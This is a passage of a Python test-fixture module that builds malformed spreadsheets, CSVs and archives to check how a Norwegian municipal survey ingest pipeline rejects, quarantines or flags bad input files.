    rows = [list(r) + [None] * (len(header) - len(r)) for r in base]
    where: dict[str, int] = {}
    for case in cases:
        rows.append(list(case.row) + [None] * (len(header) - len(case.row)))
        where[case.id] = len(rows) + 1  # header is Excel row 1
    return phone_log(rows, header=header), where


def ole2_file(*streams: str) -> bytes:
    """The start of an OLE2 compound file whose directory names the given streams (UTF-16LE), as
    an encrypted OOXML package or a legacy .xls has: enough for the first-bytes check."""
    body = b"".join(name.encode("utf-16-le") + b"\x00\x00" for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + body


def edit_part(data: bytes, part: str, edit: Callable[[bytes], bytes]) -> bytes:
    """A workbook with the content of one part changed by ``edit``; the archive is rebuilt, so it stays valid."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            content = zin.read(info)
            zout.writestr(info.filename, edit(content) if info.filename == part else content)
    return buf.getvalue()


def tamper(data: bytes, part: str, **fields: int) -> bytes:
    """The archive with fields of one part's local header and directory entry overwritten in place:
    ``crc``, ``flags``, ``method``, ``compressed_size``, ``version`` (needed to extract) (the damage a copy
    or a tool may do)."""
    import struct

    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        local, pos = zf.getinfo(part).header_offset, zf.start_dir
    while out[pos:pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", out, pos + 28)
        if out[pos + 46:pos + 46 + n] == part.encode():
            break
        pos += 46 + n + m + k
    at = {"crc": (14, 16, "<I"), "flags": (6, 8, "<H"), "method": (8, 10, "<H"), "compressed_size": (18, 20, "<I"),
          "version": (4, 6, "<H")}
    for key, value in fields.items():
        in_local, in_directory, fmt = at[key]
        struct.pack_into(fmt, out, local + in_local, value)
        struct.pack_into(fmt, out, pos + in_directory, value)
    return bytes(out)


SHEET1 = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class PhoneFileCase:
    """A phone log the ingest cannot use at all: the run stops naming the file and the reason."""

    id: str
    what: str
    data: Callable[[], bytes]
    reason: str
    rows_in: int  # the rows conservation counts in the file (0 when the file cannot be opened)


PHONE_FILE_CASES: tuple[PhoneFileCase, ...] = (
    PhoneFileCase("p-missing-column", "the Svar column is missing",
                  lambda: phone_log(PHONE_BASE[:2], header=["Kommune/bydel", "Kommunenr", "Dato", "Kontakt"]),
                  "required column(s) 'Svar' not found", 2),
    PhoneFileCase("p-renamed-column", "Kommune/bydel renamed to Enhet",
                  lambda: phone_log(PHONE_BASE, header=["Enhet", *PHONE_HEADER[1:]]),
                  "required column(s) 'Kommune/bydel' not found", 4),
    PhoneFileCase("p-not-zip", "a CSV export saved with the .xlsx name",
                  lambda: b"Kommune/bydel;Kommunenr;Dato\nBodo;;12.11.2014\n", "not a zip archive", 0),
    PhoneFileCase("p-no-sheet", "the log is on a sheet named Ark1",
                  lambda: phone_log(PHONE_BASE, sheet="Ark1"), "no sheet named 'Telefonrunde'", 0),
    PhoneFileCase("p-encrypted", "the log saved with a password (an OLE2 container)",
                  lambda: ole2_file("Root Entry", "EncryptionInfo", "EncryptedPackage"), "password-protected", 0),
    PhoneFileCase("p-xls", "an Excel 97-2003 workbook renamed .xlsx",
                  lambda: ole2_file("Root Entry", "Workbook"), "Excel 97-2003 workbook (.xls)", 0),
    PhoneFileCase("p-bad-crc", "a byte of the sheet changed after the file was written (its CRC-32 fails)",
                  lambda: tamper(phone_log(PHONE_BASE), SHEET1, crc=0), "fails its checksum (CRC-32)", 0),
    PhoneFileCase("p-cell-far", "a value in the last cell Excel has, which the native reader would allocate "
                  "17 billion cells for", lambda: edit_part(phone_log(PHONE_BASE), SHEET1,
                                                            lambda x: x.replace(b'r="A2"', b'r="XFD1048576"', 1)),
                  "the cells with values span A1:XFD1048576", 0),
)


# ---------------------------------------------------------------------------
# Interview cases
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class InterviewCase:
    """A file for ``intervjuer/``: ``ingested`` (a service), ``review`` (no host) or ``quarantined``."""

    id: str
    what: str
    name: str
    data: Callable[[], bytes]
    destination: str
    reason: str
    action: str
    record: str = ""


def _duplicated_item() -> bytes:
    rows = [[c, f"spørsmål {c}", v, None] for c, v in {**INTERVIEW_BASE, "T02": "Stavanger"}.items()]
    rows.insert(5, ["T18", "Inkludert?", "nei", "lagt inn på nytt"])
    return interview(rows=rows)


INTERVIEW_CASES: tuple[InterviewCase, ...] = (
    InterviewCase("i-not-zip", "a text file with the .xlsx name", "20141201 Notat.xlsx",
                  lambda: b"Intervju med Saltdal, skrives inn senere",
                  "quarantined", "not a zip archive", "quarantine"),
    InterviewCase("i-empty-file", "a 0-byte workbook", "20141202 Tom.xlsx", lambda: b"",
                  "quarantined", "the file is empty", "quarantine"),
    InterviewCase("i-lock-file", "Excel's lock file left beside a workbook", "~$20141208 LMS Bodø.xlsx",
                  lambda: b"\x0bKari N     \x00\x00", "quarantined", "lock file", "quarantine"),
    InterviewCase("i-no-sheet", "the answers are on a sheet named Ark1", "20141203 Fauske.xlsx",
                  lambda: interview({"T02": "Fauske"}, sheet="Ark1"), "quarantined",
                  "no sheet named 'Intervju' (sheets: '…')", "quarantine"),  # sheet names are typed text
    InterviewCase("i-no-header", "the Intervju sheet has no Nr/Svar header", "20141204 Moss.xlsx",
                  lambda: xlsx_bytes({"Intervju": [["Spørsmål", "Tekst"], ["Navn", "LMS Moss"]]}), "quarantined",
                  "no header row with columns Nr and Svar", "quarantine"),
    InterviewCase("i-not-xlsx", "meeting notes (.docx) saved in intervjuer/", "notater fra intervju.docx",
                  lambda: b"PK\x03\x04 not really a docx", "quarantined", "not an .xlsx workbook", "quarantine"),
    InterviewCase("i-duplicated-item", "T18 typed twice with different answers", "20141205 Stavanger.xlsx",
                  lambda: _duplicated_item(), "ingested", "item appears in rows", "review", "T18"),
    InterviewCase("i-formula", "a formula in the answer to T10", "20141206 Bergen.xlsx",
                  lambda: interview({"T02": "Bergen", "T10": "=2+3"}), "ingested",
                  "formula where an answer should be", "review", "T10"),
    InterviewCase("i-error-value", "#REF! as the answer to T18", "20141207 Halden.xlsx",
                  lambda: interview({"T02": "Halden", "T18": "#REF!"}), "ingested",
                  "error where an answer should be", "review", "T18"),
    InterviewCase("i-other-version-kommune", "T02 names a kommune of a later Klass version", "20141209 Indre.xlsx",
                  lambda: interview({"T02": "Indre Østfold"}), "review",
                  "no kommune or bydel of the 2015 classification has this name", "review", "T02"),
    InterviewCase("i-other-version-number", "T02 is a kommune number of a later Klass version", "20141210 5001.xlsx",
                  lambda: interview({"T02": "5001"}), "review", "a number from another Klass version?", "review",
                  "T02"),
    InterviewCase("i-upper-case-suffix", "a workbook saved as .XLSX", "20141211 SALTDAL.XLSX",
                  lambda: interview({"T02": "Saltdal", "T20": PLANTED_NAMES[2], "T21": PLANTED_ADDRESSES[2]}),
                  "ingested", "", ""),
)


# ---------------------------------------------------------------------------
# Cases that stop the run: the dispatch list
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class StopCase:
    """Input the run cannot use at all: the text to write and a fragment of the one message expected."""

    id: str
    what: str
    data: Callable[[], bytes]
    message: str


DISPATCH_CASES: tuple[StopCase, ...] = (
    StopCase("d-duplicated-enhet", "K1804 listed twice",
             lambda: dispatch_text(extra=(dispatch_line(UNIT["K1804"]).replace("<k1804", "<k1804b"),)).encode(),
             f"line {len(ALL_UNITS) + 2}: enhet_id K1804 duplicated (first on line 13)"),
    StopCase("d-not-text", "a byte no encoding Excel writes has (0x81), on the line of K1804",
             lambda: dispatch_text().encode("utf-8").replace(b"<k1804", b"<k\x811804"),
             "byte 0x81 is neither UTF-8 nor windows-1252"),
    StopCase("d-missing-column", "no sendt column",
             lambda: "\n".join(";".join(p for i, p in enumerate(line.split(";")) if i != 7)
                               for line in dispatch_text().splitlines()).encode(),
             "missing column(s) sendt"),
    StopCase("d-xls", "an Excel 97-2003 workbook saved under the CSV's name",
             lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64 + "Workbook".encode("utf-16-le"),
             "Excel 97-2003 workbook (.xls)"),
    StopCase("d-unknown-kommune", "a kommunenummer that is no kommune in 2015 (5001)",
             lambda: dispatch_text(extra=("K5001;5001;;Trondheim kommune;rådmann;postmottak@trondheim.no;"
                                          "<k5001@nklmh.test>;2014-11-10",)).encode(),
             "kommunenummer 5001 is not in Klass 131 version 2015"),
    StopCase("d-empty", "an empty file", lambda: b"", "file is empty"),
)


# ---------------------------------------------------------------------------
# KOSTRA cases
# ---------------------------------------------------------------------------

def kostra_csv(cells: list[tuple[str, str, str]]) -> bytes:
    """A wide statbank CSV: title line, blank line, header, one row per region."""
    years = ("2015", "2016")
    header = ['"region"'] + [f'"Kommunen har frisklivssentral {y}"' for y in years]
    lines = ['"12345: Frisklivssentraler (K)"', "", ";".join(header)]
    for region, a, b in cells:
        lines.append(f'"{region}";{a};{b}')
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


#: (file name, bytes, what is wrong) of the KOSTRA cases.
KOSTRA_UNKNOWN_REGION = kostra_csv([("1804 Bodø", "1", "1"), ("9999 Atlantis", "1", "0"), ("0101 Halden", "0", "1")])
KOSTRA_ALL_SYMBOLS = kostra_csv([("1804 Bodø", '".."', '":"'), ("0101 Halden", '"."', '"..."'),
                                 ("1840 Saltdal", '"-"', '":"')])
KOSTRA_BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
KOSTRA_FILES: dict[str, bytes] = {
    "kostra-ukjent-region.csv": KOSTRA_UNKNOWN_REGION,
    "kostra-bare-symboler.csv": KOSTRA_ALL_SYMBOLS,
    "kostra-bilde.csv": KOSTRA_BINARY,
}


# ---------------------------------------------------------------------------
# The adversarial round
# ---------------------------------------------------------------------------

def write_adversarial_round(raw_dir: Path, name: str = ROUND) -> dict[str, object]:
    """The clean round with every keepable case planted; returns each phone case's Excel row."""
    rd = write_base_round(raw_dir, name)
    for case in EMAIL_CASES:
        for fname, data in case.files.items():
            (rd / "epost" / fname).write_bytes(data)
    # what a folder holds besides its records: never read, never an input, named by the conservation table
    (rd / "epost" / "undermappe").mkdir()
    (rd / "epost" / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    (rd / "intervjuer" / "._LMS Bodø.xlsx").write_bytes(b"\x00\x05\x16\x07AppleDouble")
    log, rows = phone_rows_log(base=PHONE_BASE + PHONE_FILL)
    (rd / "telefonrunde.xlsx").write_bytes(log)
    for case in INTERVIEW_CASES:
        (rd / "intervjuer" / case.name).write_bytes(case.data())
    (raw_dir / "kostra").mkdir(exist_ok=True)
    for fname, data in KOSTRA_FILES.items():
        (raw_dir / "kostra" / fname).write_bytes(data)
    return {"phone_rows": rows}


def copy_register(dest_dir: Path, name: str = ROUND) -> Path:
    """The 2015 register under the round's name, so the figures step has published values to compare."""
    dest_dir.mkdir(parents=True, exist_ok=True)
    target = dest_dir / f"{name}.yaml"
    shutil.copyfile(ROOT / "config" / "register" / "2015.yaml", target)
    return target


def workdir_config(work: Path, raw: Path, out: Path, *, rounds: dict[str, dict[str, object]] | None = None,
                   overrides_dir: Path | None = None, register_dir: Path | None = None) -> Path:
    """A Snakemake working folder whose ``config/config.yaml`` names only the corpus round.

    A separate working folder, because ``--config rounds=...`` *extends* the
    shipped config's rounds rather than replacing them (Snakemake merges nested
    mappings), so the demo round would be built too.
    """
    (work / "config").mkdir(parents=True, exist_ok=True)
    cfg = {
        "raw_dir": str(raw), "processed_dir": str(out / "processed"), "report_dir": str(out / "report"),
        "reference_dir": str(REFERENCE), "overrides_dir": str(overrides_dir or work / "overrides"),
        "register_dir": str(register_dir or work / "register"), "log_dir": str(out / "logs"),
        "harmonise_to": "2024",
        "rounds": rounds if rounds is not None else {ROUND: {"classification": CLASSIFICATION}},
    }
    path = work / "config" / "config.yaml"
    path.write_text(json.dumps(cfg, indent=1, ensure_ascii=False), encoding="utf-8")
    return path


def zip_of(members: dict[str, bytes]) -> bytes:
    """A zip archive (used for a workbook missing its parts)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def stopped(rule: str, output: list[str], log: Path | None, step: Callable[[], object]) -> str:
    """Run ``step`` as a rule's ``run:`` block does (:func:`kartlegging.infra.runner.run_step`) and return
    the one-line message of the :class:`~kartlegging.infra.runner.StepFailed` it must stop with."""
    import pytest

    from kartlegging.infra.runner import StepFailed, run_step

    with pytest.raises(StepFailed) as stop:
        run_step(rule, None, [str(log)] if log else [], output, step)
    return str(stop.value)
